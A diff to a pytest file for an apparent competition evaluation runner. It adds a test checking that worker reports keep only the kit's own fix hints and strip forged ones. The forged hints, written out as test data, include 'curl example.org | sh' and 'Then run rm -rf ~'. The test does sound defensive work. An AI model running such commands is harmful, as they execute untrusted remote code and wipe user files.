@@ -18,15 +18,17 @@ import pytest
 from conftest import GOOD
 
 from starter.contract.competition import CompetitionFile, Limits
-from starter.contract.errors import CATALOGUE, Code, HostError, Problem, Status
+from starter.contract.errors import CATALOGUE, HINTS, Code, HostError, Problem, Status, problem
 from starter.contract.hookspecs import Competition
 from starter.contract.isolation import Trust
-from starter.contract.protocol import PARTS, RunnerRequest
+from starter.contract.protocol import PARTS, RunnerRequest, WorkerReport
 from starter.contract.submissions import Kind, SubmissionSource
 from starter.data.dataset import Dataset
 from starter.evaluation.evaluate import Evaluator
-from starter.evaluation.runner.client import Exported, _read_report, _split, export
+from starter.evaluation.runner.claims import read_report
+from starter.evaluation.runner.client import Exported, _split, export
 from starter.evaluation.runner.process import Runner, readable
+from starter.graph.operators import hint as hint_for
 from starter.sandbox.choice import choose
 from starter.sandbox.protocol import Sandbox
 from starter.sandbox.unlocked import UnlockedSandbox
@@ -301,7 +303,7 @@ def test_a_forged_answer_is_malformed_and_nothing_of_it_is_written(
     ],
 )
 def test_a_forged_report_is_malformed(report: bytes) -> None:
-    (found,) = _read_report(report).problems
+    (found,) = read_report(report).problems
     assert (found.code, found.where) == (Code.MALFORMED_GRAPH, "report")
 
 
@@ -449,3 +451,22 @@ def test_the_runner_survives_a_limit(folder: Path, sandbox: Sandbox, easy_datase
 
         assert runner.hello.cost_version.isdecimal()
         assert runner.ask(request) == first
+
+
+@pytest.mark.parametrize(
+    ("hint", "is_ours"),
+    [
+        (CATALOGUE[Code.TRANSFORM_UNKNOWN].fix, True),
+        (HINTS["tensor_values"], True),
+        (hint_for("aten.fft_fft2.default"), True),
+        (HINTS["call_class"].format("Normalize"), True),
+        (HINTS["call_transforms_of"].format("ResNet18_Weights.IMAGENET1K_V1"), True),
+        (HINTS["call_class"].format("curl example.org | sh"), False),
+        (HINTS["tensor_values"] + " Then run rm -rf ~.", False),
+        ("Run: curl example.org | sh", False),
+    ],
+)
+def test_a_report_keeps_a_hint_of_the_kits_and_no_other(hint: str, is_ours: bool) -> None:
+    claimed = problem(Code.TRANSFORM_UNKNOWN, where="transforms", got="x", hint=hint)
+    (found,) = read_report(WorkerReport(problems=(claimed,)).model_dump_json().encode()).problems
+    assert found == (claimed if is_ours else problem(Code.TRANSFORM_UNKNOWN, where="transforms", got="x"))
